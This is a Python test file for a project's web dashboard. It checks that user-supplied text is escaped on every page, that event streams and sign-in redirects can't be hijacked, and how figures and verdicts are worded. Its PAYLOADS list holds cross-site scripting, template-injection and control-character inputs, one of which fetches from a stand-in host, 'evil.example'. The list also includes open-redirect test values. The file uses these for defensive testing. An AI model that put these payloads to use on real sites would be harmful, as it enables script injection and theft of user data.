"""What people wrote stays text on every page; figures that nobody knows are dashes; what is wrong is said first."""

from dataclasses import replace
from urllib.parse import quote

import pytest
from tests.fakes.page_world import A_TURN, ADMIN, RUN, V16, V17, V18, a_line, a_turn_line, a_worker, page_world
from tests.growth import grows_with_its_input

from ostinato.core.errors import Unavailable
from ostinato.core.records import Arm
from ostinato.core.visitors import Visitor
from ostinato.reward.accounting import Accounting
from ostinato.web.page import app, charts
from ostinato.web.page.query_params import own_path
from ostinato.web.page.release_answers import sentence
from ostinato.web.page.templates import flat, marked, points, prompt_text, shade, spelt, told
from ostinato.web.page.views import state_of

PAYLOADS = [
    "<script>fetch('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><b onmouseover=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "{{ 7*7 }}{% include 'base.html' %}",
    '<div hx-get="/turns" hx-trigger="load"></div>',
    '<a data-hx-get="/turns">x</a>',
    "</pre></textarea></title><h1>out</h1>",
    "javascript:alert(1)",
    "<!--", "]]>", "&lt;b&gt;", "</hx-partial><hx-partial hx-target='#main'>",
    "data: x\n\nevent: beat\ndata: y",
    "\u202egnp.exe", "\u2066hidden\u2069", "nul\x00 bell\x07 \x1b[31m",
]  # fmt: skip
ALLOWED = ("hx-partial", "hx-swap", "hx-target", "hx-sse", "hx-trigger")


def inert(text, payload):
    """Nothing of the payload is markup."""
    for live_part in ("<script>f", "<img src=x", "<svg/on", "<b on", "<div hx-get", "<a data-hx", "<h1>out", "49{"):
        assert live_part not in text, payload
    for character in "\u202e\u2066\x00\x1b\x07":
        assert character not in text, payload


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_what_people_wrote_stays_text_on_every_page(payload):
    async with page_world() as w:
        facts = w.facts
        turn = replace(A_TURN, text=payload, user=payload, tenant=payload, episode=payload, parent=payload)
        shaped = replace(turn, sampled_ids=tuple(payload.encode()), logprobs=(-0.5,) * len(payload.encode()))
        span = replace(A_TURN.spans[0], tokens=len(payload.encode()))
        facts.lines = [a_turn_line(replace(shaped, spans=(span,)), signals=(payload,), outcome=payload)]
        facts.signals = (replace(facts.signals[1], name=payload, comment=payload, correction=payload, id=payload),)
        facts.reason = payload
        facts.actor = payload
        facts.alarm_line = replace(facts.alarm_line, name=payload, reason=payload)
        facts.run = replace(
            RUN,
            alarms=(facts.alarm_line,),
            releasing=(payload,),
            warnings=(payload,),
            accounts=replace(RUN.accounts, ingested=7129, held={payload: 3}),
            workers=(a_worker("train", payload, trouble=payload, reason=payload),),
        )
        rows = tuple(replace(line, reason=payload) for line in facts.releases_found.rows)
        facts.releases_found = replace(facts.releases_found, rows=rows)
        paths = [
            "/",
            "/releases",
            f"/releases/{V17.hash}",
            "/turns",
            f"/turns/{A_TURN.id}",
            "/learning",
            "/monitors",
        ]
        if "\n" not in payload:  # no path has a line's end
            paths.append(f"/monitors/{quote(payload, safe='')}")
        for path in paths:
            reply = await w.get(path, ADMIN)
            assert reply.status_code == 200, (path, payload)
            inert(reply.text, payload)
        found = await w.http.get("/turns", params={"user": payload, "text": payload, "outcome": payload})
        inert(found.text, payload)
        missing = await w.http.get(f"/turns/{'x' * 3}", params={"from": payload})
        inert(missing.text, payload)


async def test_learning_says_how_much_of_what_could_teach_is_used_and_how_large_steps_are():
    async with page_world() as w:
        reply = await w.get("/learning", ADMIN)
        assert "96.7% were trained on" in reply.text
        assert "A step takes at least 144 turns" in reply.text
        assert "(61 people) were predicted with correlation 0.84, 95% [0.81, 0.87]" in reply.text
        assert "at least 144 turns a step" in (await w.get("/", ADMIN)).text


async def test_an_event_holds_no_line_that_somebody_else_wrote():
    body = "a\nevent: beat\ndata: x\n\nid: 9"
    lines = app.message({"part": body}).split("\n")
    assert all(line.startswith("data: ") for line in lines if line)
    assert app.message({"part": body}).count("\n\n") == 1


def test_characters_that_nobody_sees_are_spelled_out():
    assert marked("a\u202eb") == 'a<span class="unseen">U+202E</span>b'
    assert marked("<b>\n\t") == "&lt;b&gt;\n\t"
    assert marked("naïve 日本 👍") == "naïve 日本 👍"


def test_many_characters_that_nobody_sees_take_little_room():
    assert (
        marked("a" + "\u200b" * 65_000, 100_000) == 'a<span class="unseen">U+200B \N{MULTIPLICATION SIGN}65,000</span>'
    )
    for hostile in ("\u200b\u200c" * 30_000, "a\u200b" * 30_000):
        said = marked(hostile)
        assert len(said) < 60_000
        assert not {"\u200b", "\u200c"} & set(said)
    assert "20,000 characters are not shown" in marked("x" * 60_000)
    assert marked("x" * 60_000, 2_000).count("x") == 2_000


def test_commands_in_a_sentence_stand_out_and_stay_text():
    assert told("end it with `ostinato <b>`.") == "end it with <code>ostinato &lt;b&gt;</code>."
    assert told("a ` alone <i>") == "a ` alone &lt;i&gt;"


def test_a_character_of_several_tokens_comes_with_its_last_one():
    pieces = [b"a", b"\xc3", b"\xa9", b"", b"\xff"]
    assert list(spelt(pieces, [1, 2, 3, 4, 5])) == ["a", "", "é", "⟨4⟩", "\ufffd"]
    assert prompt_text([b"", b"hi", b""]) == "⟨·⟩hi⟨·⟩"
    assert "30,000 characters are not shown" in prompt_text([b"x" * 50_000])
    assert [shade(each) for each in (0.0, -0.2, -1.0, -3.0, -9.0)] == [0, 1, 2, 3, 4]


def test_a_verdict_is_said_as_the_bounds_allow():
    def says(lower, upper, verdict="SHIP"):
        line = replace(a_line(V17), difference=(lower + upper) / 2, lower=lower, upper=upper, verdict=verdict)
        return sentence(line)

    assert says(0.01, 0.05) == "better"
    assert says(-0.05, -0.01, "BLOCK") == "worse"
    assert says(-0.05, 0.04) == "not worse than 10 pp"
    assert says(-0.2, 0.04, "EXTEND") == "undecided"
    assert says(-0.2, 0.04, "BLOCK") == "did not pass"
    assert sentence(replace(a_line(V17), difference=None)).startswith("no data")


def test_what_is_wrong_is_said_before_what_is_usual():
    alarm = replace(RUN, alarms=(RUN.alarms or ()) + (_alarm("a"), _alarm("b")))
    assert state_of(RUN) == ("good", "Nothing stands out.")
    assert state_of(alarm) == ("wait", "a: silence (and 1 more)")
    assert state_of(replace(alarm, troubles=("The train worker is down.",))) == ("bad", "The train worker is down.")
    assert state_of(replace(RUN, accounts=replace(RUN.accounts, ingested=8413)))[0] == "bad"


def _alarm(name):
    from ostinato.status.index_queries import AlarmLine

    return AlarmLine(name=name, reason="silence", at=1.0, standing=True)


def test_figures_are_drawn_from_the_data_and_thinned_openly():
    few = charts.thinned([(1.0, 2.0), (2.0, 3.0)])
    assert (few.points, few.every) == (((1.0, 2.0, 2.0), (2.0, 3.0, 3.0)), 1)
    many = charts.thinned([(float(at), float(at % 10)) for at in range(1_000)])
    assert many.every == 3
    assert many.points[0] == (2.0, 0.0, 2.0)
    assert len(many.points) <= charts.MOST_POINTS
    assert charts.differences([], None, "none") == ""
    assert points(-0.021) == "\N{MINUS SIGN}2.1"
    assert points(None) == "\N{EN DASH}"
    assert flat({"a": {"b": 1}, "c": [1, 2], "d": [{"e": None}]}) == [
        ("a.b", "1"),
        ("c", "1, 2"),
        ("d[0].e", "\N{EN DASH}"),
    ]


EMPTY = Accounting(ingested=0, trained=0, held={}, waiting=0, rewarded=0)


async def test_pages_say_what_must_happen_while_they_are_empty():
    async with page_world() as w:
        w.facts.run = replace(RUN, refs={}, workers=(), arms=(), curves=(), last=None, pace=None, accounts=EMPTY)
        w.facts.releases_found = replace(w.facts.releases_found, rows=(), counts={}, live=None, previous=None)
        w.facts.lines = []
        assert "No answer has been rated yet" in (await w.get("/")).text
        assert "No release yet" in (await w.get("/releases")).text
        assert "as they are served" in (await w.get("/turns")).text
        assert (await w.get("/playground", ADMIN)).status_code == 200


async def test_the_answers_of_both_arms_stand_side_by_side_and_thumbs_become_feedback():
    async with page_world() as w:
        page = await w.post("/playground", {"prompt": "<b>hi"}, ADMIN)
        assert page.status_code == 200
        assert "&lt;b&gt;hi" in page.text
        assert page.text.count("Hello!") == 2
        fields = {"turn": "chatcmpl-live:0", "name": "accepted", "correction": "Hi"}
        assert (await w.post("/playground/feedback", fields, ADMIN)).status_code == 200
        assert w.acts.done[-1] == ("rate", "chatcmpl-live:0", "accepted", "Hi")
        assert (await w.post("/playground", {"prompt": " "}, ADMIN)).status_code == 400


async def test_events_tell_what_changed_and_end_with_the_gateway(monkeypatch):
    monkeypatch.setattr(app, "EVERY_S", 0.01)
    stream = app.Live(lambda: 7.0)
    bodies = iter([{"strip": "a", "part": "b"}, {"strip": "a", "part": "c"}, {"strip": "a", "part": "c"}])

    async def parts():
        return next(bodies)

    told = stream.events(parts)
    first, beat = await anext(told), await anext(told)
    assert "a</hx-partial>" in first
    assert beat == "event: beat\ndata: 7\n\n"
    assert "a</hx-partial>" not in await anext(told)
    assert (await anext(told)).startswith("event: beat")
    assert (await anext(told)).startswith("event: beat")
    stream.close()
    assert [each async for each in told] == []
    with pytest.raises(Unavailable):
        stream.take(Visitor(tenant=None, operator=True))


async def test_only_open_pages_have_events():
    async with page_world() as w:
        assert 'hx-sse:connect="/events?page=turns&amp;user=ann"' in (await w.get("/turns?user=ann")).text
        assert "hx-sse:connect" not in (await w.get("/turns?before=40")).text
        assert "hx-sse:connect" not in (await w.get(f"/releases/{V18.hash}")).text
        for name in ("turn", "playground", "", "../x"):
            assert (await w.get(f"/events?page={name}")).status_code == 403
        assert V16.number == 16


@pytest.mark.parametrize(
    ("text", "host", "path"),
    [
        ("http://127.0.0.1:8321/releases/ab12cd?x=1", "127.0.0.1:8321", "/releases/ab12cd"),
        ("/monitors/release:suite", "", "/monitors/release:suite"),
        ("http://elsewhere/releases", "127.0.0.1:8321", "/"),
        ("//elsewhere/releases", "", "/"),
        ("/sign-in", "", "/"),
        ("/a\\b", "", "/"),
        ("/1/2/3/4/5/6/7/8/", "", "/1/2/3/4/5/6/7/8/"),
        ("/1/2/3/4/5/6/7/8/9", "", "/"),
        ("/1//2", "", "/"),
        ("http://[", "", "/"),
        ("javascript:alert(1)", "", "/"),
        ("", "127.0.0.1:8321", "/"),
    ],
)
def test_who_signs_in_comes_back_to_a_path_of_the_page_and_nowhere_else(text, host, path):
    assert own_path(text, host) == path


@pytest.mark.parametrize("arm", Arm)
async def test_every_arm_can_be_chosen_and_stays_chosen(arm):
    async with page_world() as w:
        assert f"<option selected>{arm}</option>" in (await w.get(f"/turns?arm={arm}")).text


def test_no_address_that_a_stranger_sends_takes_long_to_be_refused():
    """Who is not signed in can have it checked: the Referer of `GET /sign-in`, the field of its form."""
    assert grows_with_its_input(own_path, f"/{'a' * 4}!", f"/{'a' * 32}!")
    assert own_path(f"/{'a' * 100_000}!") == "/"


async def test_what_a_configuration_leaves_unguarded_is_warned_of_beside_the_loop():
    async with page_world() as w:
        assert "only declared" not in (await w.get("/")).text
        w.facts.run = replace(RUN, warnings=("users are only declared",))
        assert "users are only declared" in (await w.get("/")).text
